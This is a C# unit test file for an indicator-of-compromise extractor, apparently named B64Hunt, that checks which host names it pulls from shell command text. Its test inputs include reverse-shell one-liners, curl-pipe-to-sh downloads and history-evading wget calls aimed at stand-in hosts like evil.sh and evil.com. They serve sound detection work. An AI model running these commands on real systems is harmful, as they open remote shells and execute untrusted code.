using B64Hunt.Iocs;
using Xunit;
using static B64Hunt.Tests.Iocs.IocTestSupport;

namespace B64Hunt.Tests.Iocs
{
    public class DnsExtractionTests
    {
        [Theory]
        [InlineData("chmod +x install.sh", "install.sh")]
        [InlineData("bash install.sh", "install.sh")]
        [InlineData("sh setup.sh && python script.py", "script.py")]
        [InlineData("python3 script.py", "script.py")]
        [InlineData("perl x.pl", "x.pl")]
        [InlineData("cat readme.md", "readme.md")]
        [InlineData("unzip a.zip", "a.zip")]
        [InlineData("echo payload > out.sh", "out.sh")]
        [InlineData("LD_PRELOAD=libc.so ls", "libc.so")]
        [InlineData("ldd libc.so.6", "libc.so.6")]
        [InlineData("source main.rs", "main.rs")]
        [InlineData("mv clip.mov /tmp", "clip.mov")]
        [InlineData("cat evil.com", "evil.com")]
        public void FileNamesAndFileArgumentsAreNotDomains(string text, string name)
        {
            None(text, IocTypeNames.Dns, name);
        }

        [Theory]
        [InlineData("python -c 'import socket,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)'", "socket.af_inet")]
        [InlineData("python -c 'import socket,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)'", "socket.af")]
        [InlineData("python -c 'p=ps.stdout.read'", "ps.stdout.read")]
        [InlineData("python -c 'x=p.stdout.read()'", "p.stdout.read")]
        [InlineData("python -c 'import requests;requests.get(u)'", "requests.get")]
        [InlineData("python -c 'os.system(c)'", "os.system")]
        [InlineData("cscript //e:jscript x.js Wscript.Shell", "wscript.shell")]
        [InlineData("php -r '$x.read'", "x.read")]
        public void CodeAttributeChainsAreNotDomains(string text, string name)
        {
            None(text, IocTypeNames.Dns, name);
        }

        [Theory]
        [InlineData("curl http://install.sh/x", "install.sh")]
        [InlineData("ping -c 1 install.sh", "install.sh")]
        [InlineData("nc script.py 4444", "script.py")]
        [InlineData("ssh root@evil.sh", "evil.sh")]
        [InlineData("dig evil.zip", "evil.zip")]
        [InlineData("nslookup evil.mov 8.8.8.8", "evil.mov")]
        [InlineData("wget evil.py/payload", "evil.py")]
        [InlineData("socat TCP:evil.sh:443 EXEC:/bin/sh", "evil.sh")]
        [InlineData("bash -i >& /dev/tcp/evil.sh/4444 0>&1", "evil.sh")]
        [InlineData("openssl s_client -quiet -connect evil.sh:443", "evil.sh")]
        public void ExtensionLikeNamesAreDomainsWhereAHostIsUsed(string text, string name)
        {
            var ioc = Single(text, IocTypeNames.Dns, name);
            Assert.False(ioc.IsPrivate);
        }

        [Theory]
        [InlineData("echo c2 is evil.com", "evil.com")]
        [InlineData("curl -s evil.example.com/a | sh", "evil.example.com")]
        [InlineData("export C2=update.badguy.xyz", "update.badguy.xyz")]
        [InlineData("echo www.evil.co.uk", "www.evil.co.uk")]
        [InlineData("echo EVIL.COM", "evil.com")]
        [InlineData("echo x.ngrok-free.app", "x.ngrok-free.app")]
        [InlineData("ping evil.com.", "evil.com")]
        public void DomainsInFreeTextNeedAPublicSuffix(string text, string name)
        {
            Single(text, IocTypeNames.Dns, name);
        }

        [Theory]
        [InlineData("echo server.notatld")]
        [InlineData("echo version1.2")]
        [InlineData("apt-get install python3.8")]
        [InlineData("echo a..b")]
        [InlineData("echo -evil-.com")]
        [InlineData("cat /var/www/evil.com/index.php")]
        [InlineData("echo dir/evil.com")]
        [InlineData("echo co.uk")]
        [InlineData("echo id_rsa.pub")]
        public void NonDomainsAreNotReported(string text)
        {
            Assert.Empty(Of(text, IocTypeNames.Dns));
        }

        [Theory]
        [InlineData("curl http://server/x", "server")]
        [InlineData("curl http://localhost:8080/x", "localhost")]
        [InlineData("curl http://db.corp/x", "db.corp")]
        [InlineData("curl http://printer.local/x", "printer.local")]
        [InlineData("curl http://nas.lan/x", "nas.lan")]
        [InlineData("curl http://vault.internal/x", "vault.internal")]
        [InlineData("curl http://router.home.arpa/x", "router.home.arpa")]
        [InlineData("ssh admin@jumpbox", "jumpbox")]
        [InlineData("ping dc01.corp", "dc01.corp")]
        [InlineData("exec 3<>/dev/tcp/attacker/4444", "attacker")]
        public void InternalHostNamesAreFlaggedPrivate(string text, string name)
        {
            Assert.True(Single(text, IocTypeNames.Dns, name).IsPrivate);
        }

        [Theory]
        [InlineData("curl --socks5-hostname 127.0.0.1:9050 http://abcdefghijklmnop.onion/x", "abcdefghijklmnop.onion")]
        [InlineData("echo abcdefghijklmnop.onion", "abcdefghijklmnop.onion")]
        [InlineData("torsocks nc xyz.i2p 80", "xyz.i2p")]
        public void OverlayNetworkNamesArePublicDomains(string text, string name)
        {
            Assert.False(Single(text, IocTypeNames.Dns, name).IsPrivate);
        }

        [Fact]
        public void NetworkCommandFileOptionsAreNotHosts()
        {
            string text = "wget -q http://1.2.3.4/a.sh -O a.sh; curl -o b.sh http://evil.com/b; curl -fsSL -o/tmp/c.sh evil.org/c";
            None(text, IocTypeNames.Dns, "a.sh");
            None(text, IocTypeNames.Dns, "b.sh");
            None(text, IocTypeNames.Dns, "c.sh");
            Single(text, IocTypeNames.Dns, "evil.com");
            Single(text, IocTypeNames.Dns, "evil.org");
        }

        [Fact]
        public void GitConfigKeysAreNotDomainsAndGitRemotesAreLogins()
        {
            string text = "git config --global user.email dev@evil.com && git config user.name x && git clone git@evil.org:a/b.git";
            Assert.Equal(new[] { "evil.com", "evil.org" }, Of(text, IocTypeNames.Dns));
            Assert.Equal(new[] { "dev@evil.com" }, Of(text, IocTypeNames.Email));
        }

        [Fact]
        public void ScpCopiesFilesToHosts()
        {
            string text = "scp install.sh root@evil.com:/tmp/ && scp -i key.pem backup.tar.gz evil.net:/srv/";
            None(text, IocTypeNames.Dns, "install.sh");
            Single(text, IocTypeNames.Dns, "evil.com");
            Single(text, IocTypeNames.Dns, "evil.net");
            Assert.Empty(Of(text, IocTypeNames.Email));
        }

        [Fact]
        public void SshRunsTheRestAsARemoteCommand()
        {
            string text = "ssh -p 2222 -i id.key user@evil.com bash install.sh";
            Single(text, IocTypeNames.Dns, "evil.com");
            None(text, IocTypeNames.Dns, "install.sh");
            None(text, IocTypeNames.Dns, "id.key");
        }

        [Theory]
        [InlineData("sudo -u root curl -s evil.sh/x")]
        [InlineData("sshpass -p 'secret' ssh -o StrictHostKeyChecking=no admin@evil.sh")]
        [InlineData("timeout 10 nc evil.sh 4444")]
        [InlineData("nohup env -u HISTFILE wget evil.sh/x &")]
        public void PrefixesAndTheirOptionsKeepTheRealCommand(string text)
        {
            Single(text, IocTypeNames.Dns, "evil.sh");
        }

        [Fact]
        public void CodeInsideShellAndInterpretersIsWalkedAsCommands()
        {
            string text = "bash -c \"curl -fsSL evil.com/a.sh|sh\"; python3 -c 'import os;os.system(\"ping -c1 beacon.xyz\")'";
            Single(text, IocTypeNames.Dns, "evil.com");
            Single(text, IocTypeNames.Dns, "beacon.xyz");
            None(text, IocTypeNames.Dns, "a.sh");
        }
    }
}
